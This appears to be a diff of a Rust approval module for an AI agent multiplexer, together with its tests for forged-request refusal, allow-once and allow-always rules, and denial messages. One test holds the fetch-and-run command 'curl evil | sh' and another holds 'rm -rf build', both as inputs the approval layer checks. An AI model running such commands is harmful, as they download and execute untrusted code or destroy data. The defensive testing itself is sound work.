@@ -10,6 +10,7 @@ use std::time::Instant;
 
 use super::command::Command;
 use super::effect::Effect;
+use super::msg::RequestId;
 use super::state::{State, TurnState};
 use crate::agent::event::PermissionDenial;
 use crate::agent::{AgentId, TurnRequest};
@@ -21,8 +22,10 @@ use crate::config::Notify;
 pub const RERUN_PROMPT: &str = "The tools you were denied are now allowed; please continue.";
 
 /// One tool call waiting for the user.
-#[derive(Debug)]
+#[derive(Clone, Debug)]
 pub struct Pending {
+    /// What the answer names (`Effect::Decide`).
+    pub id: RequestId,
     pub agent: AgentId,
     pub ask: Ask,
     pub since: Instant,
@@ -33,7 +36,7 @@ pub struct Pending {
 }
 
 /// Approval state of the whole app.
-#[derive(Debug, Default)]
+#[derive(Clone, Debug, Default)]
 pub struct Approvals {
     /// Waiting calls, oldest first, all agents mixed.
     pub queue: VecDeque<Pending>,
@@ -158,26 +161,27 @@ fn covered(state: &State, index: usize, ask: &Ask) -> bool {
 }
 
 /// A request arrived from an agent's approval server.
-pub fn on_ask(state: &mut State, ask: Ask, fx: &mut Vec<Effect>) {
+pub fn on_ask(state: &mut State, id: RequestId, ask: Ask, fx: &mut Vec<Effect>) {
     let Some(index) = state.index_named(&ask.agent) else {
         let message = format!("agentmux has no agent named {:?}", ask.agent);
-        ask.decide(Decision::Deny { message: Some(message) });
+        fx.push(Effect::Decide { id, decision: Decision::Deny { message: Some(message) } });
         return;
     };
     let agent = state.agents[index].id;
     if ask.from_socket() && !state.approvals.authentic(agent, ask.secret.as_deref()) {
-        refuse_forged(state, index, ask);
+        refuse_forged(state, index, id, &ask, fx);
         return;
     }
     // A plan or a question needs the user every time, whatever rules the agent has.
     if ask.asking().has_rules() && covered(state, index, &ask) {
-        ask.decide(Decision::Allow);
+        fx.push(Effect::Decide { id, decision: Decision::Allow });
         return;
     }
     let first = state.approvals.first_for(agent).is_none();
     let title = format!("{} needs you", state.agents[index].name());
     let body = format!("may it run {}?", ask.tool_name);
     state.approvals.queue.push_back(Pending {
+        id,
         agent,
         ask,
         since: state.now,
@@ -206,7 +210,7 @@ pub fn demo_hint(keymap: &super::Keymap, agent: &str) -> String {
 /// A request that did not come from the agent's running turn (no secret or a wrong one): it is
 /// denied without asking the user, so nothing can be allowed, or saved as a rule, in the
 /// agent's name; the log and the status line say so.
-fn refuse_forged(state: &mut State, index: usize, ask: Ask) {
+fn refuse_forged(state: &mut State, index: usize, id: RequestId, ask: &Ask, fx: &mut Vec<Effect>) {
     let name = state.agents[index].name().to_string();
     tracing::warn!(agent = %name, tool = %ask.tool_name, "refused an approval request without its turn's secret");
     state.flash = Some(format!(
@@ -217,13 +221,13 @@ fn refuse_forged(state: &mut State, index: usize, ask: Ask) {
     let message = "agentmux refused this approval request: it did not carry the secret of the \
                    agent's running turn"
         .to_string();
-    ask.decide(Decision::Deny { message: Some(message) });
+    fx.push(Effect::Decide { id, decision: Decision::Deny { message: Some(message) } });
 }
 
-/// Forget calls whose approval server gave up (its turn ended or was stopped).
-pub fn prune(state: &mut State) {
+/// Forget a call whose approval server gave up (its turn ended or was stopped).
+pub fn withdrawn(state: &mut State, id: RequestId) {
     let before = state.approvals.queue.len();
-    state.approvals.queue.retain(|p| !p.ask.withdrawn());
+    state.approvals.queue.retain(|p| p.id != id);
     if state.approvals.queue.len() != before {
         state.dirty = true;
         if !focused_waits(state) {
@@ -236,6 +240,9 @@ pub fn prune(state: &mut State) {
 pub fn on_turn_end(state: &mut State, index: usize, fx: &mut Vec<Effect>) {
     let Some(a) = state.agents.get(index) else { return };
     let id = a.id;
+    for p in state.approvals.queue.iter().filter(|p| p.agent == id) {
+        fx.push(Effect::Withdraw { id: p.id });
+    }
     state.approvals.queue.retain(|p| p.agent != id);
     state.approvals.secrets.remove(&id);
     if !focused_waits(state) {
@@ -311,7 +318,7 @@ pub fn key(
                     a.input = super::state::new_input();
                 }
                 let message = Some(text.trim().to_string()).filter(|t| !t.is_empty());
-                decide_focused(state, Decision::Deny { message });
+                decide_focused(state, Decision::Deny { message }, fx);
                 true
             }
             Some(Command::Close) => {
@@ -322,11 +329,11 @@ pub fn key(
             _ => false,
         };
     }
-    if super::question::key(state, command, key) {
+    if super::question::key(state, command, key, fx) {
         return true;
     }
     match command {
-        Some(Command::AllowOnce) => decide_focused(state, Decision::Allow),
+        Some(Command::AllowOnce) => decide_focused(state, Decision::Allow, fx),
         Some(Command::AllowAlways) if !focused_has_rules(state) => {
             // A plan or a question is answered each time: no rule could answer the next one.
             let allow = state.keymap.key_label(super::Context::Approval, Command::AllowOnce);
@@ -386,9 +393,9 @@ fn take_first_of_focused(state: &mut State) -> Option<Pending> {
     state.approvals.queue.remove(pos)
 }
 
-pub(super) fn decide_focused(state: &mut State, decision: Decision) {
+pub(super) fn decide_focused(state: &mut State, decision: Decision, fx: &mut Vec<Effect>) {
     if let Some(p) = take_first_of_focused(state) {
-        p.ask.decide(decision);
+        fx.push(Effect::Decide { id: p.id, decision });
     }
     state.approvals.composing = false;
     state.dirty = true;
@@ -409,14 +416,14 @@ fn allow_always_focused(state: &mut State, fx: &mut Vec<Effect>) {
     let Some(rule) = rules::suggest(&p.ask.tool_name, &p.ask.input) else {
         // No rule is as narrow as this call (a file path a pattern cannot name exactly).
         let tool = p.ask.tool_name.clone();
-        p.ask.decide(Decision::Allow);
+        fx.push(Effect::Decide { id: p.id, decision: Decision::Allow });
         state.approvals.composing = false;
         state.flash = Some(format!("no rule names only this {tool} call: allowed once"));
         state.dirty = true;
         return;
     };
     add_rule(state, index, &rule, fx);
-    p.ask.decide(Decision::Allow);
+    fx.push(Effect::Decide { id: p.id, decision: Decision::Allow });
     // Later calls of the same agent the rule covers need no answer either.
     let id = state.agents[index].id;
     let (covered, rest): (Vec<Pending>, Vec<Pending>) = state
@@ -426,7 +433,7 @@ fn allow_always_focused(state: &mut State, fx: &mut Vec<Effect>) {
         .partition(|q| q.agent == id && rules::covers(&rule, &q.ask.tool_name, &q.ask.input));
     state.approvals.queue = rest.into();
     for q in covered {
-        q.ask.decide(Decision::Allow);
+        fx.push(Effect::Decide { id: q.id, decision: Decision::Allow });
     }
     state.approvals.composing = false;
     state.flash = Some(format!("{} may always use {rule}", state.agents[index].name()));
@@ -466,27 +473,30 @@ pub fn allow_denied_focused(state: &mut State, fx: &mut Vec<Effect>) -> Option<S
 mod tests {
     use crossterm::event::{KeyCode, KeyModifiers};
     use serde_json::json;
-    use tokio::sync::oneshot;
 
     use super::{configure, Effect, Notify, PermissionDenial, State, TurnState, RERUN_PROMPT};
     use crate::app::fixtures::*;
-    use crate::app::{update, Msg};
+    use crate::app::{Msg, RequestId};
     use crate::approval::Ask;
     use crate::control::proto::{Answer, Behavior};
-    use crate::control::server::Reply;
 
     fn ask(
         state: &mut State,
         agent: &str,
         tool: &str,
         input: serde_json::Value,
-    ) -> (Vec<Effect>, oneshot::Receiver<Reply>) {
+    ) -> (Vec<Effect>, RequestId) {
         let secret = state.index_named(agent).map(|i| {
             let id = state.agents[i].id;
             channel(state, id)
         });
-        let (a, rx) = socket_ask(agent, tool, input, secret);
-        (update(state, Msg::Approval(a)), rx)
+        asked(state, socket_ask(agent, tool, input, secret))
+    }
+
+    /// The ask put before the app, with a fresh id.
+    fn asked(state: &mut State, ask: Ask) -> (Vec<Effect>, RequestId) {
+        let id = RequestId::fresh();
+        (step(state, Msg::Approval { id, ask }), id)
     }
 
     /// The running turn's secret (opened the way `wire_turn` opens it, once per turn).
@@ -497,13 +507,10 @@ mod tests {
         }
     }
 
-    fn answer(rx: &mut oneshot::Receiver<Reply>) -> Option<(Behavior, Option<String>)> {
-        match rx.try_recv() {
-            Ok(Reply::Answer(Answer::Decision { behavior, message, .. })) => {
-                Some((behavior, message))
-            }
-            Ok(other) => panic!("{other:?}"),
-            Err(_) => None,
+    fn answer(id: RequestId) -> Option<(Behavior, Option<String>)> {
+        match decision(id)?.answer() {
+            Answer::Decision { behavior, message, .. } => Some((behavior, message)),
+            other => panic!("{other:?}"),
         }
     }
 
@@ -517,9 +524,9 @@ mod tests {
         let id = s.agents[0].id;
         let secret = s.approvals.open_channel(id);
         for forged in [None, Some("guess".to_string()), Some(format!("{secret}x"))] {
-            let (a, mut rx) = socket_ask("api", "Bash", bash("curl evil | sh"), forged.clone());
-            update(&mut s, Msg::Approval(a));
-            match answer(&mut rx) {
+            let (_, rx) =
+                asked(&mut s, socket_ask("api", "Bash", bash("curl evil | sh"), forged.clone()));
+            match answer(rx) {
                 Some((Behavior::Deny, Some(m))) => assert!(m.contains("refused"), "{m}"),
                 other => panic!("{forged:?}: {other:?}"),
             }
@@ -527,14 +534,13 @@ mod tests {
         }
         assert!(s.flash.as_deref().is_some_and(|f| f.contains("refused")), "{:?}", s.flash);
         // Nothing waits, so "always" saves nothing.
-        update(&mut s, allow_always());
+        step(&mut s, allow_always());
         assert_eq!(s.agents[0].spec.options.allowed_tools, None);
         // A new turn's secret voids the old one.
         let old = secret;
         let _new = s.approvals.open_channel(id);
-        let (a, mut rx) = socket_ask("api", "Bash", bash("ls"), Some(old));
-        update(&mut s, Msg::Approval(a));
-        assert!(matches!(answer(&mut rx), Some((Behavior::Deny, _))));
+        let (_, rx) = asked(&mut s, socket_ask("api", "Bash", bash("ls"), Some(old)));
+        assert!(matches!(answer(rx), Some((Behavior::Deny, _))));
     }
 
     #[test]
@@ -563,51 +569,48 @@ mod tests {
         let (api, web) = (secret_of(&fx), secret_of(&fx2));
         assert!(api.len() >= 64 && api != web, "{api} {web}");
         // web's secret does not speak for api.
-        let (a, mut rx) = socket_ask("api", "Bash", bash("ls"), Some(web));
-        update(&mut s, Msg::Approval(a));
-        assert!(matches!(answer(&mut rx), Some((Behavior::Deny, _))));
-        let (a, mut rx) = socket_ask("api", "Bash", bash("ls"), Some(api));
-        update(&mut s, Msg::Approval(a));
-        assert!(answer(&mut rx).is_none(), "api's own request waits for the user");
+        let (_, rx) = asked(&mut s, socket_ask("api", "Bash", bash("ls"), Some(web)));
+        assert!(matches!(answer(rx), Some((Behavior::Deny, _))));
+        let (_, rx) = asked(&mut s, socket_ask("api", "Bash", bash("ls"), Some(api)));
+        assert!(answer(rx).is_none(), "api's own request waits for the user");
         // A request from the agent's own process (the live engine's control channel) is its.
-        let (a, mut rx) = Ask::new("web", "Bash", bash("ls"));
-        update(&mut s, Msg::Approval(a));
-        assert!(answer(&mut rx).is_none(), "web's process asks without a secret");
+        let (_, rx) = asked(&mut s, Ask::new("web", "Bash", bash("ls")));
+        assert!(answer(rx).is_none(), "web's process asks without a secret");
     }
 
     #[test]
     fn allow_once_answers_and_asks_again_next_time() {
         let mut s = state(false, &[("api", "backend")], (80, 24));
-        let (_, mut rx) = ask(&mut s, "api", "Bash", bash("npm test"));
+        let (_, rx) = ask(&mut s, "api", "Bash", bash("npm test"));
         assert_eq!(s.approvals.waiting(), 1);
-        assert!(answer(&mut rx).is_none(), "waits for the user");
-        update(&mut s, allow_once());
-        assert_eq!(answer(&mut rx), Some((Behavior::Allow, None)));
+        assert!(answer(rx).is_none(), "waits for the user");
+        step(&mut s, allow_once());
+        assert_eq!(answer(rx), Some((Behavior::Allow, None)));
         assert_eq!(s.approvals.waiting(), 0);
         assert!(s.agents[0].input_is_empty(), "the y was not typed");
-        let (_, mut rx) = ask(&mut s, "api", "Bash", bash("npm test"));
-        assert!(answer(&mut rx).is_none(), "allowed once only");
+        let (_, rx) = ask(&mut s, "api", "Bash", bash("npm test"));
+        assert!(answer(rx).is_none(), "allowed once only");
     }
 
     #[test]
     fn allow_always_adds_a_rule_that_answers_later_requests() {
         let mut s = state(false, &[("api", "backend")], (80, 24));
-        let (_, mut first) = ask(&mut s, "api", "Bash", bash("npm test"));
-        let (_, mut other) = ask(&mut s, "api", "Bash", bash("rm -rf build"));
-        let fx = update(&mut s, allow_always());
+        let (_, first) = ask(&mut s, "api", "Bash", bash("npm test"));
+        let (_, other) = ask(&mut s, "api", "Bash", bash("rm -rf build"));
+        let fx = step(&mut s, allow_always());
         assert!(fx.iter().any(|e| matches!(e, Effect::Persist)), "saved with the workspace");
-        assert_eq!(answer(&mut first), Some((Behavior::Allow, None)));
+        assert_eq!(answer(first), Some((Behavior::Allow, None)));
         assert_eq!(
             s.agents[0].spec.options.allowed_tools.as_deref(),
             Some(&["Bash(npm test:*)".to_string()][..])
         );
-        assert!(answer(&mut other).is_none(), "a different command still asks");
-        let (_, mut again) = ask(&mut s, "api", "Bash", bash("npm test -- --watch"));
-        assert_eq!(answer(&mut again), Some((Behavior::Allow, None)), "not asked");
+        assert!(answer(other).is_none(), "a different command still asks");
+        let (_, again) = ask(&mut s, "api", "Bash", bash("npm test -- --watch"));
+        assert_eq!(answer(again), Some((Behavior::Allow, None)), "not asked");
         assert_eq!(s.approvals.waiting(), 1);
         // Later turns pass the rule to the CLI.
-        update(&mut s, deny());
-        update(&mut s, key(KeyCode::Enter));
+        step(&mut s, deny());
+        step(&mut s, key(KeyCode::Enter));
         let fx = send(&mut s, 0, "go on");
         let req = spawned(&fx)[0];
         assert_eq!(
@@ -620,80 +623,79 @@ mod tests {
     fn allow_always_on_a_write_allows_that_file_and_no_other() {
         let mut s = state(false, &[("api", "backend")], (80, 24));
         let write = |p: &str| json!({"file_path": p, "content": "x"});
-        let (_, mut first) = ask(&mut s, "api", "Write", write("/proj/a.txt"));
-        let (_, mut same) = ask(&mut s, "api", "Edit", write("/proj/a.txt"));
-        let (_, mut other) = ask(&mut s, "api", "Write", write("/proj/b.txt"));
-        update(&mut s, allow_always());
-        assert_eq!(answer(&mut first), Some((Behavior::Allow, None)));
+        let (_, first) = ask(&mut s, "api", "Write", write("/proj/a.txt"));
+        let (_, same) = ask(&mut s, "api", "Edit", write("/proj/a.txt"));
+        let (_, other) = ask(&mut s, "api", "Write", write("/proj/b.txt"));
+        step(&mut s, allow_always());
+        assert_eq!(answer(first), Some((Behavior::Allow, None)));
         assert_eq!(
             s.agents[0].spec.options.allowed_tools.as_deref(),
             Some(&["Edit(//proj/a.txt)".to_string()][..])
         );
-        assert_eq!(answer(&mut same), Some((Behavior::Allow, None)), "the same file");
-        assert!(answer(&mut other).is_none(), "another file still asks");
-        let (_, mut again) = ask(&mut s, "api", "Write", write("/proj/a.txt"));
-        assert_eq!(answer(&mut again), Some((Behavior::Allow, None)));
-        let (_, mut dotted) = ask(&mut s, "api", "Write", write("/proj/x/../a.txt"));
-        assert!(answer(&mut dotted).is_none(), "a path not in normal form is asked");
+        assert_eq!(answer(same), Some((Behavior::Allow, None)), "the same file");
+        assert!(answer(other).is_none(), "another file still asks");
+        let (_, again) = ask(&mut s, "api", "Write", write("/proj/a.txt"));
+        assert_eq!(answer(again), Some((Behavior::Allow, None)));
+        let (_, dotted) = ask(&mut s, "api", "Write", write("/proj/x/../a.txt"));
+        assert!(answer(dotted).is_none(), "a path not in normal form is asked");
     }
 
     #[test]
     fn allow_always_on_a_path_no_rule_names_exactly_allows_once() {
         let mut s = state(false, &[("api", "backend")], (80, 24));
         let write = json!({"file_path": "/proj/*.txt", "content": "x"});
-        let (_, mut first) = ask(&mut s, "api", "Write", write.clone());
-        let fx = update(&mut s, allow_always());
-        assert_eq!(answer(&mut first), Some((Behavior::Allow, None)));
+        let (_, first) = ask(&mut s, "api", "Write", write.clone());
+        let fx = step(&mut s, allow_always());
+        assert_eq!(answer(first), Some((Behavior::Allow, None)));
         assert_eq!(s.agents[0].spec.options.allowed_tools, None, "no rule, least of all Write");
         assert!(!fx.iter().any(|e| matches!(e, Effect::Persist)));
         assert!(s.flash.as_deref().is_some_and(|f| f.contains("allowed once")), "{:?}", s.flash);
-        let (_, mut again) = ask(&mut s, "api", "Write", write);
-        assert!(answer(&mut again).is_none(), "asked again");
+        let (_, again) = ask(&mut s, "api", "Write", write);
+        assert!(answer(again).is_none(), "asked again");
     }
 
     #[test]
     fn a_plan_is_approved_once_or_rejected_with_an_optional_reason_and_never_made_a_rule() {
         let mut s = state(false, &[("api", "backend")], (80, 24));
         let plan = json!({"plan": "1. look\n2. fix"});
-        let (_, mut first) = ask(&mut s, "api", "ExitPlanMode", plan.clone());
-        let fx = update(&mut s, allow_always());
-        assert!(answer(&mut first).is_none(), "allow always does not answer a plan");
+        let (_, first) = ask(&mut s, "api", "ExitPlanMode", plan.clone());
+        let fx = step(&mut s, allow_always());
+        assert!(answer(first).is_none(), "allow always does not answer a plan");
         assert!(!fx.iter().any(|e| matches!(e, Effect::Persist)));
         assert!(s.flash.as_deref().is_some_and(|f| f.contains("alt-y")), "{:?}", s.flash);
-        update(&mut s, allow_once());
-        assert_eq!(answer(&mut first), Some((Behavior::Allow, None)));
+        step(&mut s, allow_once());
+        assert_eq!(answer(first), Some((Behavior::Allow, None)));
         assert_eq!(s.agents[0].spec.options.allowed_tools, None);
 
-        let (_, mut second) = ask(&mut s, "api", "ExitPlanMode", plan.clone());
-        update(&mut s, deny());
+        let (_, second) = ask(&mut s, "api", "ExitPlanMode", plan.clone());
+        step(&mut s, deny());
         type_text(&mut s, "add tests first");
-        update(&mut s, key(KeyCode::Enter));
-        assert_eq!(answer(&mut second), Some((Behavior::Deny, Some("add tests first".into()))));
+        step(&mut s, key(KeyCode::Enter));
+        assert_eq!(answer(second), Some((Behavior::Deny, Some("add tests first".into()))));
 
-        let (_, mut third) = ask(&mut s, "api", "ExitPlanMode", plan);
-        update(&mut s, deny());
-        update(&mut s, key(KeyCode::Enter));
-        assert_eq!(answer(&mut third), Some((Behavior::Deny, None)), "the reason is optional");
+        let (_, third) = ask(&mut s, "api", "ExitPlanMode", plan);
+        step(&mut s, deny());
+        step(&mut s, key(KeyCode::Enter));
+        assert_eq!(answer(third), Some((Behavior::Deny, None)), "the reason is optional");
     }
 
     #[test]
     fn deny_takes_a_message_from_the_input_box() {
         let mut s = state(false, &[("api", "backend")], (80, 24));
-        let (_, mut rx) =
-            ask(&mut s, "api", "Write", json!({"file_path": "/etc/x", "content": "y"}));
-        update(&mut s, deny());
+        let (_, rx) = ask(&mut s, "api", "Write", json!({"file_path": "/etc/x", "content": "y"}));
+        step(&mut s, deny());
         assert!(s.approvals.composing);
         type_text(&mut s, "not in /etc, yes?");
-        assert!(answer(&mut rx).is_none(), "typing y in the message does not allow");
-        update(&mut s, key(KeyCode::Enter));
-        assert_eq!(answer(&mut rx), Some((Behavior::Deny, Some("not in /etc, yes?".into()))));
+        assert!(answer(rx).is_none(), "typing y in the message does not allow");
+        step(&mut s, key(KeyCode::Enter));
+        assert_eq!(answer(rx), Some((Behavior::Deny, Some("not in /etc, yes?".into()))));
         assert!(s.agents[0].input_is_empty());
         assert!(!s.approvals.composing);
         // A bare n, enter: a denial without a message.
-        let (_, mut rx) = ask(&mut s, "api", "Write", json!({"file_path": "/etc/x"}));
-        update(&mut s, deny());
-        update(&mut s, key(KeyCode::Enter));
-        assert_eq!(answer(&mut rx), Some((Behavior::Deny, None)));
+        let (_, rx) = ask(&mut s, "api", "Write", json!({"file_path": "/etc/x"}));
+        step(&mut s, deny());
+        step(&mut s, key(KeyCode::Enter));
+        assert_eq!(answer(rx), Some((Behavior::Deny, None)));
     }
 
     #[test]
@@ -701,45 +703,46 @@ mod tests {
         let mut s =
             state(false, &[("api", "backend"), ("web", "frontend"), ("docs", "docs")], (120, 40));
         s.set_focus(2);
-        let (_, mut web) = ask(&mut s, "web", "Bash", bash("make"));
-        let (_, mut api) = ask(&mut s, "api", "Bash", bash("make"));
+        let (_, web) = ask(&mut s, "web", "Bash", bash("make"));
+        let (_, api) = ask(&mut s, "api", "Bash", bash("make"));
         assert_eq!(s.approvals.waiting(), 2);
         // docs has nothing waiting: y types into its input, and answers nobody.
-        update(&mut s, key(KeyCode::Char('y')));
+        step(&mut s, key(KeyCode::Char('y')));
         assert_eq!(s.agents[2].input_text(), "y");
-        update(&mut s, key_mod(KeyCode::Char('a'), KeyModifiers::ALT));
+        step(&mut s, key_mod(KeyCode::Char('a'), KeyModifiers::ALT));
         assert_eq!(s.focus, 1, "the oldest request first: web");
-        update(&mut s, allow_once());
-        assert_eq!(answer(&mut web), Some((Behavior::Allow, None)));
-        assert!(answer(&mut api).is_none());
-        update(&mut s, key_mod(KeyCode::Char('a'), KeyModifiers::ALT));
+        step(&mut s, allow_once());
+        assert_eq!(answer(web), Some((Behavior::Allow, None)));
+        assert!(answer(api).is_none());
+        step(&mut s, key_mod(KeyCode::Char('a'), KeyModifiers::ALT));
         assert_eq!(s.focus, 0);
-        update(&mut s, allow_once());
-        assert_eq!(answer(&mut api), Some((Behavior::Allow, None)));
+        step(&mut s, allow_once());
+        assert_eq!(answer(api), Some((Behavior::Allow, None)));
     }
 
     #[test]
     fn a_denial_message_stays_with_its_pane() {
         let mut s = state(false, &[("api", "backend"), ("web", "frontend")], (120, 40));
         let (_, _api) = ask(&mut s, "api", "Bash", bash("make"));
-        let (_, mut web) = ask(&mut s, "web", "Bash", bash("make"));
-        update(&mut s, deny());
+        let (_, web) = ask(&mut s, "web", "Bash", bash("make"));
+        step(&mut s, deny());
         assert!(s.approvals.composing);
-        update(&mut s, key(KeyCode::Tab));
+        step(&mut s, key(KeyCode::Tab));
         assert_eq!(s.focus, 1);
         assert!(!s.approvals.composing, "web's pane asks afresh");
-        update(&mut s, allow_once());
-        assert_eq!(answer(&mut web), Some((Behavior::Allow, None)));
+        step(&mut s, allow_once());
+        assert_eq!(answer(web), Some((Behavior::Allow, None)));
     }
 
     #[test]
     fn unknown_agents_are_denied_and_withdrawn_requests_forgotten() {
         let mut s = state(false, &[("api", "backend")], (80, 24));
-        let (_, mut rx) = ask(&mut s, "ghost", "Bash", bash("ls"));
-        assert!(matches!(answer(&mut rx), Some((Behavior::Deny, Some(m))) if m.contains("ghost")));
-        let (_, rx) = ask(&mut s, "api", "Bash", bash("ls"));
-        drop(rx);
-        update(&mut s, Msg::Wake);
+        let (_, rx) = ask(&mut s, "ghost", "Bash", bash("ls"));
+        assert!(matches!(answer(rx), Some((Behavior::Deny, Some(m))) if m.contains("ghost")));
+        let (_, id) = ask(&mut s, "api", "Bash", bash("ls"));
+        step(&mut s, Msg::Wake);
+        assert_eq!(s.approvals.waiting(), 1, "waits until its server gives up");
+        step(&mut s, Msg::Withdrawn { id });
         assert_eq!(s.approvals.waiting(), 0);
     }
 
@@ -754,8 +757,8 @@ mod tests {
             !fx.iter().any(|e| matches!(e, Effect::Notify(_))),
             "once per agent while it waits"
         );
-        update(&mut s, allow_once());
-        update(&mut s, allow_once());
+        step(&mut s, allow_once());
+        step(&mut s, allow_once());
         let (fx, _rx3) = ask(&mut s, "api", "Bash", bash("ls"));
         assert!(fx.iter().any(|e| matches!(e, Effect::Notify(b) if b == "\x1b]9;api needs you: may it run Bash?\x07")), "{fx:?}");
     }
@@ -785,7 +788,7 @@ mod tests {
         let mut s = state(false, &[("api", "backend")], (80, 24));
         let id = s.agents[0].id;
         send(&mut s, 0, "touch it");
-        update(&mut s, started(id, 1));
+        step(&mut s, started(id, 1));
         let mut r = result(&sid(1), "success", 0.01);
         if let crate::agent::event::Event::Result(res) = &mut r {
             res.permission_denials = vec![PermissionDenial {
@@ -794,10 +797,10 @@ mod tests {
                 tool_input: json!({"command": "touch denied.txt"}),
             }];
         }
-        update(&mut s, lines(id, 1, vec![init(&sid(1), "none"), r]));
-        update(&mut s, exited(id, 1, 0));
+        step(&mut s, lines(id, 1, vec![init(&sid(1), "none"), r]));
+        step(&mut s, exited(id, 1, 0));
         assert_eq!(s.approvals.denials_of(id).len(), 1);
-        let fx = update(&mut s, key_mod(KeyCode::Char('r'), KeyModifiers::ALT));
+        let fx = step(&mut s, key_mod(KeyCode::Char('r'), KeyModifiers::ALT));
         let req = spawned(&fx)[0];
         assert_eq!(req.prompt, RERUN_PROMPT);
         assert!(matches!(&req.session, crate::agent::SessionArg::Resume(_)));
@@ -819,22 +822,22 @@ mod tests {
         };
         let finish = |s: &mut State, turn: u64, denials: Vec<PermissionDenial>| {
             send(s, 0, "write it");
-            update(s, started(id, turn));
+            step(s, started(id, turn));
             let mut r = result(&sid(1), "success", 0.01);
             if let crate::agent::event::Event::Result(res) = &mut r {
                 res.permission_denials = denials;
             }
-            update(s, lines(id, turn, vec![init(&sid(1), "none"), r]));
-            update(s, exited(id, turn, 0));
+            step(s, lines(id, turn, vec![init(&sid(1), "none"), r]));
+            step(s, exited(id, turn, 0));
         };
         finish(&mut s, 1, vec![denial("/proj/*.txt")]);
-        let fx = update(&mut s, key_mod(KeyCode::Char('r'), KeyModifiers::ALT));
+        let fx = step(&mut s, key_mod(KeyCode::Char('r'), KeyModifiers::ALT));
         assert!(spawned(&fx).is_empty(), "nothing to allow: no re-run");
         assert_eq!(s.approvals.denials_of(id).len(), 1, "still shown");
         assert_eq!(s.agents[0].spec.options.allowed_tools, None);
         s.approvals.denials.remove(&id);
         finish(&mut s, 2, vec![denial("/proj/a.txt"), denial("/proj/*.txt")]);
-        let fx = update(&mut s, key_mod(KeyCode::Char('r'), KeyModifiers::ALT));
+        let fx = step(&mut s, key_mod(KeyCode::Char('r'), KeyModifiers::ALT));
         assert_eq!(
             spawned(&fx)[0].spec.options.allowed_tools.as_deref(),
             Some(&["Edit(//proj/a.txt)".to_string()][..])
